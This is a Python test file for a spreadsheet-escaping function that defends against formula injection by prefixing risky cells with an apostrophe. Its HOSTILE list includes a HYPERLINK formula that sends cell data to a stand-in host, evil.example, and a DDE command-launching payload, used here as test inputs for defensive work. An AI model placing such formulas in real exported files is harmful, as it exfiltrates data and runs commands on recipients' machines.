"""Spreadsheet cells cannot carry formulas (docs/security.md #11)."""

from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from g2g.core.spreadsheets import FORMULA_TRIGGERS, safe_cell

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+44 161 770 3000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Plain words",
        "",
        " =leading space is text",
        "50% by March",
        "1.1",
        None,
        3,
        -4,
        Decimal("-2.50"),
        date(2024, 3, 1),
        True,
    ],
)
def test_everything_else_passes_unchanged(value):
    assert safe_cell(value) == value


@given(st.text())
def test_no_text_cell_ever_starts_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell.endswith(text)
